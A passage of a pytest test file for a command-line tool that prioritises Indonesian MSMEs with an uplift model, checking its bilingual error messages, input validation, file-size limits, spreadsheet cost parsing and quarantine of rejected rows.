    assert ("berkas tidak ditemukan" in said) == (lang == "id")
    assert ("file is not found" in said or "file not found" in said) == (lang == "en")

    output = tmp_path / "list.docx"
    said = refused(registered_model, candidates_file, output, lang, "--capacity", "5")
    assert "list.docx" in said
    assert ("jenis berkas .docx tidak dikenal" in said) == (lang == "id")


OUT_OF_RANGE = {
    "id": {
        "--capacity": "galat: --capacity tidak boleh kurang dari 1",
        "--time-limit": "galat: --time-limit tidak boleh lebih dari 600",
    },
    "en": {
        "--capacity": "error: --capacity must be at least 1",
        "--time-limit": "error: --time-limit must be at most 600",
    },
}


@pytest.mark.parametrize("lang", ["id", "en"])
@pytest.mark.parametrize(
    "options", [["--capacity", "0"], ["--capacity", "5", "--time-limit", "601"]]
)
def test_an_option_out_of_its_range_is_refused_in_the_language_asked_by_its_flag(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    lang: str,
    options: list[str],
) -> None:
    """The range is checked with the other options, not by the command line parser (whose
    words are English whatever --lang says), and names the option as it is typed."""
    said = refused(registered_model, candidates_file, tmp_path / "l.csv", lang, *options)
    assert OUT_OF_RANGE[lang][options[-2]] in said
    assert not (tmp_path / "l.csv").exists()


NOT_CONTRACT = {
    "id": "berkas tidak mengikuti kontrak data profil: baris judul, kolom sector: kolom wajib "
    "tidak ada",
    "en": "the file does not follow the profile contract: header, column sector: required "
    "column is missing",
}


@pytest.mark.parametrize("lang", ["id", "en"])
def test_a_file_missing_a_contract_column_is_refused_in_the_language_asked(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str
) -> None:
    without = tmp_path / "tanpa_sektor.csv"
    write_table(read_table(candidates_file).drop(columns=["sector"]), without)
    said = refused(registered_model, without, tmp_path / "l.csv", lang, "--capacity", "5")
    assert f"tanpa_sektor.csv: {NOT_CONTRACT[lang]}" in said
    other = NOT_CONTRACT["en" if lang == "id" else "id"]
    assert other not in said


SHEET_FULL = {
    "id": "UMKM tidak terpilih, lebih dari yang muat di satu lembar kerja; tulis ke .csv",
    "en": "MSMEs are not selected, more than a worksheet holds; write .csv",
}


@pytest.mark.parametrize("lang", ["id", "en"])
def test_more_left_out_msmes_than_a_worksheet_holds_are_refused_in_the_language_asked(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    lang: str,
) -> None:
    """A worksheet of three rows stands in for Excel's 1,048,575: nothing is written."""
    monkeypatch.setattr("service.prioritize_file.XLSX_MAX_ROWS", 3)
    output = tmp_path / "daftar.xlsx"
    said = refused(registered_model, candidates_file, output, lang, "--capacity", "1")
    assert "daftar.xlsx: " in said and SHEET_FULL[lang] in said
    assert not output.exists()


def test_a_value_the_model_cannot_read_is_refused_at_its_input_row_in_the_chosen_language(
    registered_model: RegisteredModel,
) -> None:
    """Validation passes what the contract allows; a model can need more (a value its features
    cannot read). The refusal then names the input file's row and column in either language."""
    from models.pyfunc import load_uplift_model
    from service.prioritize_file import INPUT_ROW, _score
    from tests.conftest import use_tracking_uri

    profiles = registered_model.candidates.head(3).astype(object)
    profiles.loc[1, "workers"] = "banyak"
    profiles[INPUT_ROW] = [5, 6, 7]
    with use_tracking_uri(registered_model.tracking_uri):
        model = load_uplift_model(registered_model.model_uri)
    with pytest.raises(PrioritizeFileError) as no:
        _score(profiles, model, None)
    assert no.value.worded("id") == "baris 6, kolom workers: nilai 'banyak' bukan angka"
    assert (
        no.value.worded("en")
        == str(no.value)
        == ("row 6, column workers: value 'banyak' is not a number")
    )


@pytest.mark.parametrize("lang", ["en", "id"])
def test_a_model_uri_naming_no_model_is_one_line_with_exit_code_2(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path, lang: str
) -> None:
    output = tmp_path / "list.csv"
    code, out, err = run(
        "--data", str(candidates_file),
        "--capacity", "10",
        "--output", str(output),
        "--model", "models:/umkm-uplift@champoin",
        "--lang", lang,
    )  # fmt: skip

    assert (code, out) == (2, "")
    assert len(err.strip().splitlines()) == 1, err  # no traceback
    # The aliases' versions depend on the tests run before (some register more versions).
    said = {
        "en": (
            "error: model models:/umkm-uplift@champoin not found: umkm-uplift has no alias "
            "champoin in the tracking store MLFLOW_TRACKING_URI={store}; its aliases: candidate (v",
            "champion (v",
            "; check the alias, or check the folder you run from",
        ),
        "id": (
            "galat: model models:/umkm-uplift@champoin tidak ditemukan: umkm-uplift tidak punya "
            "alias champoin di penyimpanan pelacakan MLFLOW_TRACKING_URI={store}; aliasnya: "
            "candidate (v",
            "champion (v",
            "; periksa aliasnya, atau periksa folder tempat perintah dijalankan",
        ),
    }
    head, alias, tail = said[lang]
    line = " ".join(err.split())
    assert line.startswith(head.format(store=registered_model.tracking_uri)), line
    assert alias in line and tail in line, line
    assert not output.exists()


def _with_cost_column(
    registered_model: RegisteredModel, biaya: list[str], source: Path, budget: float
) -> tuple[int, str]:
    """`umkm prioritize` of the first candidates with the cost column `biaya`, written to
    `source`, into `out/daftar.csv` beside it (10 slots, within `budget`): exit code, stderr."""
    from data.contract import PROFILE_COLUMNS

    frame = registered_model.candidates[[spec.name for spec in PROFILE_COLUMNS]].head(len(biaya))
    write_table(frame.assign(biaya=biaya).reset_index(drop=True), source)
    output = source.parent / "out" / "daftar.csv"
    code, _, err = run(
        "--data", str(source), "--capacity", "10", "--output", str(output),
        "--model", registered_model.model_uri, "--cost-column", "biaya", "--budget", str(budget),
    )  # fmt: skip
    return code, err


def test_costs_typed_as_indonesian_text_in_a_workbook_are_read_as_the_page_reads_them(
    registered_model: RegisteredModel, tmp_path: Path
) -> None:
    """`Rp 1.250.000` typed as text in a workbook whose other numbers are number cells: the
    cost column is read in the form its own cells show (`data.io.money_texts`), as the page
    reads it, not refused row by row."""
    costs = ["Rp 1.250.000", "1.500.000", "Rp 2.000.000,50"]
    biaya = [costs[i % 3] for i in range(60)]
    output = tmp_path / "out" / "daftar.csv"
    code, err = _with_cost_column(registered_model, biaya, tmp_path / "kandidat_biaya.xlsx", 15e6)
    assert code == 0, err
    assert not (tmp_path / "out" / "daftar.quarantine.csv").exists()
    listed = read_table(output)
    assert set(listed["cost"].astype(float)) <= {1_250_000.0, 1_500_000.0, 2_000_000.5}
    assert listed["cost"].astype(float).sum() <= 15_000_000


def test_a_failed_formula_in_the_cost_column_is_quarantined_as_such(
    registered_model: RegisteredModel, tmp_path: Path
) -> None:
    biaya = ["1500000"] * 2 + ["#REF!"] + ["1500000"] * 27
    code, err = _with_cost_column(registered_model, biaya, tmp_path / "kandidat.csv", 30e6)
    assert code == 0, err
    quarantine = read_table(tmp_path / "out" / "daftar.quarantine.csv")
    assert quarantine["row"].astype(int).tolist() == [4]
    assert (
        quarantine["reasons"]
        .iloc[0]
        .startswith("column biaya: value is the spreadsheet error #REF! (a formula that failed")
    )


def test_a_quotas_file_over_1_mb_is_refused_naming_the_file_and_the_limit(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Its size is looked at before it is read: valid JSON of 2 MB is not opened."""
    quotas = tmp_path / "quotas.json"
    quotas.write_text('{"31": 4,' + " " * 2_000_000 + '"32": 5}', encoding="utf-8")
    code, _, err = run(
        "--data", str(candidates_file), "--capacity", "5", "--output", str(tmp_path / "l.csv"),
        "--model", registered_model.model_uri, "--quotas", str(quotas),
    )  # fmt: skip
    assert code == 2
    said = "".join(err.split())  # rich may wrap the long path
    assert f"--quotas:{quotas}holdsmorethan1,048,576bytes(1MB),themostaquotasfilemayhold" in said
    assert not (tmp_path / "l.csv").exists()

    def not_read(self: Path, *args: object, **kwargs: object) -> None:
        raise AssertionError(f"{self} was opened")

    monkeypatch.setattr(Path, "open", not_read)
    monkeypatch.setattr(Path, "read_text", not_read)
    monkeypatch.setattr(Path, "read_bytes", not_read)
    with pytest.raises(PrioritizeFileError, match="1,048,576 bytes"):
        parse_quotas(str(quotas))


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_a_quotas_file_that_never_ends_is_read_only_to_the_limit(tmp_path: Path) -> None:
    quotas = tmp_path / "endless.json"
    quotas.symlink_to("/dev/zero")  # its size says 0
    with pytest.raises(PrioritizeFileError) as refused:
        parse_quotas(str(quotas))
    assert str(refused.value) == (
        f"--quotas: {quotas} holds more than 1,048,576 bytes (1 MB), the most a quotas file may "
        "hold"
    )
    assert refused.value.worded("id") == (
        f"--quotas: {quotas} berisi lebih dari 1.048.576 bita (1 MB), batas berkas kuota"
    )


def test_a_list_without_rejected_rows_removes_the_quarantine_of_an_earlier_run(
    registered_model: RegisteredModel, candidates_file: Path, tmp_path: Path
) -> None:
    """`list.quarantine.csv` left by an earlier run beside the same output would read as this
    list's rejected rows: a list that rejects none removes it once the list is in place."""
    from service.prioritize_file import build_request, prioritize_file

    output = tmp_path / "out" / "list.csv"
    quarantine = tmp_path / "out" / "list.quarantine.csv"
    request = build_request(capacity=10)
    first = prioritize_file(candidates_file, output, request, model_uri=registered_model.model_uri)
    assert first.quarantine_path == quarantine and quarantine.is_file()
    assert first.stale_quarantine_removed is None

    clean = write_table(registered_model.candidates.head(60), tmp_path / "clean.csv")
    again = prioritize_file(clean, output, request, model_uri=registered_model.model_uri)
    assert (again.quarantine_path, again.rows_rejected) == (None, 0)
    assert again.stale_quarantine_removed == quarantine
    assert sorted(path.name for path in output.parent.iterdir()) == [
        "list.csv",
        "list_not_selected.csv",
    ]
    assert set(read_table(output)["msme_id"]) <= set(registered_model.candidates["msme_id"])
    # The command says so, in the language asked.
    stale = tmp_path / "out" / "list.quarantine.csv"
    stale.write_text("row,reasons\n2,old\n", encoding="utf-8")
    code, out, _ = run(
        "--data", str(clean), "--capacity", "5", "--output", str(output),
        "--model", registered_model.model_uri, "--lang", "id",
    )  # fmt: skip
    assert code == 0
    said = " ".join(out.split())
    assert "tidak ada baris yang ditolak: berkas baris ditolak dari proses sebelumnya" in said
    assert not stale.exists()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_list_and_its_quarantine_appear_together_or_not_at_all(
    registered_model: RegisteredModel,
    candidates_file: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    suffix: str,
) -> None:
    """The command stops while writing the list's files: the quarantine of its rejected rows
    does not appear without them, and no temporary is left."""
    import service.prioritize_file as module

    class KilledError(Exception):
        pass

    def killed_while_writing_the_list(*args: Any, **kwargs: Any) -> None:
        Path(args[1] if suffix == ".csv" else args[0]).write_bytes(b"half a list")
        raise KilledError

    name = "write_table_to" if suffix == ".csv" else "write_workbook"
    monkeypatch.setattr(module, name, killed_while_writing_the_list)
    output = tmp_path / "out" / f"list{suffix}"
    with pytest.raises(KilledError):
        module.prioritize_file(
            candidates_file,
            output,
            module.build_request(capacity=10),
            model_uri=registered_model.model_uri,
        )
    assert not output.parent.exists() or list(output.parent.iterdir()) == []
